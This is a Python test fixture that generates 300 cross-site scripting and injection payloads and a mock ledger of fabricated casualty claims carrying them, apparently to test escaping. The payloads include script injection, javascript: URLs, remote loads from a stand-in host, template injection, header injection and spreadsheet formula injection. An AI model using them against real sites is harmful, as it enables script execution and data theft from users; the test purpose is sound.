"""Three hundred ways to smuggle markup or script into a page, and a ledger made of nothing else."""

from __future__ import annotations

from pathlib import Path

from harmledger.core.claim import (
    AllegedPerpetrator,
    Claim,
    Site,
    VictimGroup,
    Victims,
    Voice,
    claim_id,
)
from harmledger.core.document import Block, Capture, Document, Sentence, Text
from harmledger.core.extraction import Extraction
from harmledger.core.ids import derived_id, document_id, sha256_of
from harmledger.core.place import Place
from harmledger.core.quantity import Quantity
from harmledger.core.response import Response
from harmledger.core.span import Span
from harmledger.core.unresolved import Unresolved
from harmledger.core.when import Moment, When
from harmledger.ledger import Gathered, open_ledger

OUTSIDE = "//outside.example"
"""What a payload would fetch from; no such machine exists (RFC 6761)."""
WANTED = 300

# N is the number of the payload: what runs says which one it was.
ELEMENTS = (
    "<script>alert(N)</script>",
    "<SCRIPT>alert(N)</SCRIPT>",
    "<script\n>alert(N)</script\n>",
    "<script/x>alert(N)</script>",
    f"<script src={OUTSIDE}/N.js></script>",
    "<script type=module>alert(N)</script>",
    "<scr<script>ipt>alert(N)</scr</script>ipt>",
    "<img src=x onerror=alert(N)>",
    "<img/src=x/onerror=alert(N)>",
    '<img src="x" onerror="alert(N)">',
    "<img src=x onerror=alert`N`>",
    f"<img src={OUTSIDE}/N.png>",
    f"<img srcset='{OUTSIDE}/N.png 2x'>",
    "<image href=x onerror=alert(N)>",
    "<svg onload=alert(N)>",
    "<svg/onload=alert(N)>",
    "<svg><script>alert(N)</script></svg>",
    "<svg><script href=data:,alert(N) /></svg>",
    "<svg><animate onbegin=alert(N) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(N)><text y=20>N</text></a></svg>",
    f"<svg><use href={OUTSIDE}/N.svg#x /></svg>",
    "<svg><set attributeName=href to=javascript:alert(N)></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(N)</script>'></foreignObject></svg>",
    "<math><mi xlink:href=javascript:alert(N)>N</mi></math>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(N)></style></math>",
    "<body onload=alert(N)>",
    "<body onpageshow=alert(N)>",
    "<body background=javascript:alert(N)>",
    "<iframe src=javascript:alert(N)></iframe>",
    "<iframe srcdoc='<img src=x onerror=parent.alert(N)>'></iframe>",
    f"<iframe src={OUTSIDE}/N></iframe>",
    "<object data=javascript:alert(N)></object>",
    f"<object data={OUTSIDE}/N.swf></object>",
    "<embed src=javascript:alert(N)>",
    f"<embed src={OUTSIDE}/N>",
    "<video src=x onerror=alert(N)></video>",
    "<video><source onerror=alert(N)></video>",
    f"<video poster={OUTSIDE}/N.png></video>",
    "<audio src=x onerror=alert(N)></audio>",
    "<details open ontoggle=alert(N)>",
    "<input autofocus onfocus=alert(N)>",
    "<select autofocus onfocus=alert(N)>",
    "<textarea autofocus onfocus=alert(N)>",
    "<button autofocus onfocus=alert(N)>x",
    "<p tabindex=0 autofocus onfocus=alert(N)>",
    "<marquee onstart=alert(N)>",
    "<a href=javascript:alert(N)>N</a>",
    "<a href=JaVaScRiPt:alert(N)>N</a>",
    "<a href='java\tscript:alert(N)'>N</a>",
    "<a href='&#106;avascript:alert(N)'>N</a>",
    "<a href=data:text/html,<script>alert(N)</script>>N</a>",
    "<a href=x onclick=alert(N)>N</a>",
    "<form action=javascript:alert(N)><button>N</button></form>",
    f"<form action={OUTSIDE}/N><button>N</button></form>",
    "<button formaction=javascript:alert(N)>N</button>",
    "<isindex type=image src=1 onerror=alert(N)>",
    f"<link rel=stylesheet href={OUTSIDE}/N.css>",
    "<link rel=stylesheet href=data:,*{x:expression(alert(N))}>",
    f"<link rel=prefetch href={OUTSIDE}/N>",
    f"<link rel=dns-prefetch href={OUTSIDE}>",
    f"<style>@import '{OUTSIDE}/N.css';</style>",
    f"<style>*{{background:url({OUTSIDE}/N)}}</style>",
    f"<p style=background:url({OUTSIDE}/N)>",
    "<p style=animation-name:x onanimationstart=alert(N)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(N)'>",
    f"<meta http-equiv=refresh content='0;url=http:{OUTSIDE}/N'>",
    f"<base href={OUTSIDE}/>",
    "<noscript><p title='</noscript><img src=x onerror=alert(N)>'>",
    "<template><script>alert(N)</script></template>",
    "<xss onpointerenter=alert(N) style=position:fixed;inset:0>",
    "<x contenteditable autofocus onfocus=alert(N)>",
    "<keygen autofocus onfocus=alert(N)>",
    "<table background=javascript:alert(N)>",
    "<frameset onload=alert(N)>",
    "<dialog open oncancel=alert(N)>",
    "<portal src=javascript:alert(N)>",
)
BEFORE = ("", '">', "'>", "--></title></textarea></style></script>", "]]>")
"""Ways out of the place where a text may stand."""
PLAIN = (
    '" onmouseover="alert(N)',
    "' onmouseover='alert(N)",
    '" autofocus onfocus="alert(N)" x="',
    "` onerror=alert(N) `",
    "javascript:alert(N)",
    "JAVASCRIPT:alert(N)//",
    " javascript:alert(N)",
    "java\u0000script:alert(N)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydChOKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(N)",
    "{{ 7 * 7 }}{{ alert(N) }}",
    "{% import os %}N",
    "${alert(N)}",
    "#{alert(N)}",
    "<%= alert(N) %>",
    "&lt;script&gt;alert(N)&lt;/script&gt;",
    "&#60;script&#62;alert(N)&#60;/script&#62;",
    "%3Cscript%3Ealert(N)%3C/script%3E",
    "\\u003cscript\\u003ealert(N)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(N)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(N)+ADw-/script+AD4-",
    "\u202e<img src=x onerror=alert(N)>\u202c",
    "\ufeff<script>alert(N)</script>",
    "<\u200bscript>alert(N)</script>",
    "</script><script>alert(N)</script>",
    "<!--<img src='--><img src=x onerror=alert(N)>'>",
    "<![CDATA[<script>alert(N)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(N)'?>",
    '=HYPERLINK("http://outside.example",N)',
    "\r\nSet-Cookie: hostile=N\r\n\r\n<script>alert(N)</script>",
)


def list_payloads() -> list[str]:
    """The payloads, each with its own number in it."""
    found = [*PLAIN, *(before + element for before in BEFORE for element in ELEMENTS)]
    return [one.replace("N", str(n)) for n, one in enumerate(found[:WANTED])]


def write_hostile(place: Path, payloads: list[str]) -> list[Claim]:
    """A ledger in which document n carries payload n wherever another's words may stand; gives
    the claim of each."""
    gathered = [_print(n, payload) for n, payload in enumerate(payloads)]
    with open_ledger(place, write=True) as ledger:
        ledger.write_documents(gathered)
    return [one.extraction.claims[0] for one in gathered]


def _print(n: int, payload: str) -> Gathered:
    sentence = f"Shells killed {n + 2} people in {payload} on the day, said {payload}."
    text = f"{payload}\n\n{sentence}\n\nAnd 7 more of {payload} were counted."
    digest, text_digest = sha256_of(f"{n} {text}".encode()), sha256_of(text.encode())
    document = Document(
        id=document_id(digest),
        name=f"{n} {payload}",
        title=payload,
        source=payload,
        url=f"http://outside.example/{payload}" if n % 2 else payload,
        published_at=f"20{10 + n // 28 % 12:02}-{1 + n // 28 % 12:02}-{1 + n % 28:02}",
        language="en",
        sha256=digest,
        media_type="text/plain",
        text_sha256=text_digest,
        reader="hostile@1",
    )
    start = text.index(sentence)
    span = Span(start=start, end=start + len(sentence), quote=sentence, sentence=sentence)
    claims = (_claim(document, span, n, payload),)
    extraction = Extraction(
        document=document.id,
        text_sha256=text_digest,
        extractor="hostile@1",
        claims=claims,
        responses=(_response(document, span, claims[0], payload),),
        unresolved=(_unresolved(document, text, payload),),
    )
    whole = Text(
        sha256=text_digest,
        reader="hostile@1",
        text=text,
        blocks=(Block(start=0, end=len(text)),),
        sentences=(Sentence(start=start, end=span.end, block=0),),
    )
    capture = Capture(
        captured_at="2024-01-01T00:00:00+00:00", path=payload, method=payload, tool="hostile@1"
    )
    return Gathered(
        content=f"{n} {text}".encode(),
        document=document,
        text=whole,
        extraction=extraction,
        captures=(capture,),
    )


def _claim(document: Document, span: Span, n: int, payload: str) -> Claim:
    voice = (
        Voice(organisation=payload, role=payload, as_written=payload, verb=payload, side="health"),
        Voice(name=payload, channel=payload, as_written=payload),
    )
    quantity = Quantity(as_written=payload, low=n + 2, high=n + 2, bound="exact")
    day = document.published_at or ""
    return Claim(
        id=claim_id(document.id, document.text_sha256, span, "killed", "asserts", voice, quantity),
        document=document.id,
        document_name=document.name,
        text_sha256=document.text_sha256,
        span=span,
        harm="killed",
        quantity=quantity,
        victims=Victims(
            as_written=payload, roles=(payload,), groups=(VictimGroup(as_written=payload, low=1),)
        ),
        site=Site(kind="market", name=payload, as_written=payload),
        alleged_perpetrator=AllegedPerpetrator(
            name=payload, as_written=payload, alleged_by=payload
        ),
        voice=voice,
        said_at=Moment(at=day, origin="published"),
        place=Place(
            as_written=payload,
            name=f"{payload} {n}",
            gazetteer_id=f"hostile:{n}",
            country="UA",
            admin1=payload,
            lat=46.0 + n % 17 / 4,
            lon=25.0 + n % 19 / 2,
            precision=1 + n % 4,
            kind="town",
        ),
        occurred=When(as_written=payload, edtf=day, earliest=day, latest=day, precision=1),
        extractor="hostile@1",
    )


def _response(document: Document, span: Span, claim: Claim, payload: str) -> Response:
    return Response(
        id=derived_id("rsp", document.id),
        document=document.id,
        document_name=document.name,
        kind="denial",
        voice=claim.voice[:1],
        span=span,
        said_at=claim.said_at,
        about=claim.id,
        accused=payload,
        place=claim.place,
        occurred=claim.occurred,
    )


def _unresolved(document: Document, text: str, payload: str) -> Unresolved:
    at = text.rindex("7 more")
    words = text[at : at + 6]
    return Unresolved(
        id=derived_id("unr", document.id),
        document=document.id,
        document_name=document.name,
        span=Span(start=at, end=at + 6, quote=words, sentence=text[at - 4 :]),
        reason="number_without_harm",
        note=payload,
    )
